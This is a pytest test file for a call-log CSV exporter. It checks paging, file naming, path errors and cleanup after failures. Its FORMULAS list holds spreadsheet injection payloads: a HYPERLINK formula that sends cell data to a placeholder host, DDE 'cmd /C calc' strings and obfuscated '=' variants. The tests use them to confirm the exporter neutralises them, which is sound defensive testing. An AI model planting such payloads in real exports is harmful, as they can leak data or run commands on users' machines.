"""A call-log search exported to CSV: every row it matched, raw values, inert to spreadsheets.

Against the real sandbox (its call log holds many pages), read back with Python's csv
reader: the row count is the server's count, not the page on screen; hostile account data
starting with = + - @ is written so no spreadsheet evaluates it; a bad path or a failed
search is a message and leaves no file behind. The last test drives the Call log view.
"""

from __future__ import annotations

import csv
import os
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from console.api import CallLogQuery, KnowlarityClient
from console.api.calllog import CallLogPage
from console.calllog_csv import (
    EXPORT_COLUMNS,
    ExportError,
    default_export_name,
    default_export_path,
    export_call_log,
    export_query,
    inert,
    resolve_export_path,
)
from console.display import TimeFormat
from console.screens.calllog import CallLogScreen
from console.screens.forms import FormScreen
from sandbox.server import DEFAULT_API_KEY, DEFAULT_SR_API_KEY, SandboxServer
from tests.console.conftest import SIZE, until

pytestmark = pytest.mark.timeout(60)

FORMULAS = ("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1")


def read(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def names(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


def client_for(sandbox: SandboxServer) -> KnowlarityClient:
    return KnowlarityClient(base_url=sandbox.base_url, sr_api_key=DEFAULT_SR_API_KEY, api_key=DEFAULT_API_KEY,
                            retries=0, timeout=10)


def test_a_cell_a_spreadsheet_would_run_is_written_inert() -> None:
    for value in FORMULAS:
        assert inert(value) == "'" + value, value
    for value in ("+919812345678", "-5", "12.5", "Connected", "", "a=b", "sales@x.example", "name - team"):
        assert inert(value) == value, value  # numbers and ordinary text are left as they are


def test_the_default_file_is_named_by_the_search_and_date_and_never_overwrites(tmp_path: Path) -> None:
    query = CallLogQuery(call_status="Missed", customer__contains="9812/../x",
                         start_time__gt=datetime(2026, 12, 1, tzinfo=UTC))
    name = default_export_name(query, datetime(2026, 12, 2, 8, 40))
    assert name == "calls-Missed-9812_.._x-from-20261201-20261202-0840.csv", name
    assert "/" not in name
    assert default_export_name(None, datetime(2026, 12, 2, 8, 40)) == "calls-20261202-0840.csv"
    first = default_export_path(name, cwd=tmp_path)
    assert first == tmp_path / name
    first.write_text("mine")
    assert default_export_path(name, cwd=tmp_path) == tmp_path / name.replace(".csv", "-2.csv")
    # an unwritable (here: missing) current directory falls back to home
    assert default_export_path(name, cwd=tmp_path / "gone", home=tmp_path / "home").parent == tmp_path / "home"


def test_a_bad_path_is_refused_in_words_before_any_request(tmp_path: Path) -> None:
    (tmp_path / "taken.csv").write_text("keep me")
    (tmp_path / "afile").write_text("")
    cases = {
        "": "give a file name",
        str(tmp_path / "missing" / "x.csv"): "does not exist",
        str(tmp_path / "afile" / "x.csv"): "is not a folder",
        str(tmp_path / "taken.csv"): "already exists",
    }
    for typed, words in cases.items():
        with pytest.raises(ExportError, match=words):
            resolve_export_path(typed, "d.csv", cwd=tmp_path)
    assert resolve_export_path(str(tmp_path / "taken.csv"), "d.csv", replace=True) == tmp_path / "taken.csv"
    assert resolve_export_path(str(tmp_path), "d.csv") == tmp_path / "d.csv"  # a folder: the default name in it
    assert resolve_export_path("out.csv", "d.csv", cwd=tmp_path) == tmp_path / "out.csv"
    if os.geteuid() != 0:  # root may write anywhere
        locked = tmp_path / "locked"
        locked.mkdir(mode=0o500)
        with pytest.raises(ExportError, match="permission denied"):
            resolve_export_path(str(locked / "x.csv"), "d.csv")


async def test_every_page_of_the_search_is_written_with_raw_values(sandbox: SandboxServer, tmp_path: Path) -> None:
    newest = sorted(sandbox.account.calllog.records(), key=lambda r: r.ts)[-len(FORMULAS):]
    planted = {}
    for record, formula in zip(newest, FORMULAS, strict=True):
        record.disposition = formula
        planted[record.uuid] = formula
    searched = datetime.now(UTC)
    query = export_query(CallLogQuery(limit=50, offset=50, get_total=True,
                                      start_time__gt=searched - timedelta(days=30)), searched)
    assert query.limit == 200 and query.offset is None and query.start_time__lt == searched
    seen: list[int] = []
    path = tmp_path / "calls.csv"
    times = TimeFormat("IST")
    async with client_for(sandbox) as client:
        result = await export_call_log(client.iter_call_log(query), path, times=times,
                                       progress=lambda fetched, total: seen.append(fetched))
        first = await client.search_call_log(query.model_copy(update={"limit": 1}))
    total = first.meta.total_count
    assert total is not None and total > 200, "the sandbox must hold more than one export page"
    rows = read(path)
    assert result.rows == result.fetched == result.total == total == len(rows)
    assert len(seen) > 1 and seen[-1] == total  # it walked several pages
    assert list(rows[0]) == [("start_time (IST)" if c == "start_time" else "end_time (IST)" if c == "end_time"
                              else "duration (s)" if c == "duration" else c) for c in EXPORT_COLUMNS]
    assert len({r["uuid"] for r in rows}) == total and all(len(r["uuid"]) > 8 for r in rows)  # full ids, each once
    assert all(r["duration (s)"].isdigit() for r in rows)
    assert all(datetime.strptime(r["start_time (IST)"], "%Y-%m-%d %H:%M:%S") for r in rows)
    assert any(r["customer_number"].startswith("+91") for r in rows)  # numbers as sent, not prefixed
    written = {r["uuid"]: r["disposition"] for r in rows if r["uuid"] in planted}
    assert written == {uuid: "'" + formula.strip() for uuid, formula in planted.items()}  # the client strips blanks
    assert names(tmp_path) == ["calls.csv"]  # no temporary file left


async def test_a_failed_search_or_disk_leaves_no_file_and_says_why(sandbox: SandboxServer, tmp_path: Path) -> None:
    async def failing() -> AsyncIterator[CallLogPage]:
        yield CallLogPage.model_validate({"meta": {"total_count": 3}, "objects": [{"uuid": "a"}, {"uuid": "b"}]})
        raise RuntimeError("503 Service Unavailable")

    path = tmp_path / "calls.csv"
    with pytest.raises(ExportError, match="failed after 2 calls, so nothing was written: 503"):
        await export_call_log(failing(), path, times=TimeFormat())
    assert names(tmp_path) == []
    with pytest.raises(ExportError, match=r"could not write .*: no such file or directory"):
        await export_call_log(failing(), tmp_path / "gone" / "calls.csv", times=TimeFormat())


async def test_the_call_log_view_exports_all_pages_of_its_search(console_factory, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    app = console_factory(stream=False)
    async with app.run_test(size=SIZE) as pilot:
        await pilot.press("4")
        screen = app.screen
        assert isinstance(screen, CallLogScreen)
        await until(pilot, lambda: screen.pages == 1, timeout=8)
        assert screen.total is not None and screen.total > len(screen.records)
        await pilot.press("e")
        await until(pilot, lambda: isinstance(app.screen, FormScreen))
        form = app.screen
        assert isinstance(form, FormScreen)
        default = Path(form.values()["path"])
        assert default.name.startswith("calls-") and default.suffix == ".csv"
        assert f"{screen.total:,} calls" in form.note and "every page" in form.note
        target = tmp_path / "out.csv"
        form.query_one("#field-path").value = str(tmp_path / "missing" / "out.csv")  # type: ignore[attr-defined]
        form.action_submit()
        await until(pilot, lambda: "does not exist" in str(form.query_one("#form-error").render()))
        form.query_one("#field-path").value = str(target)  # type: ignore[attr-defined]
        form.action_submit()
        await until(pilot, lambda: not isinstance(app.screen, FormScreen), timeout=15)
        assert len(read(target)) == screen.total
        assert f"wrote {screen.total:,} calls to {target}" in str(screen.query_one("#calllog-status").render())
        assert "calls loaded" in str(screen.query_one("#calllog-status").render())  # the count stays
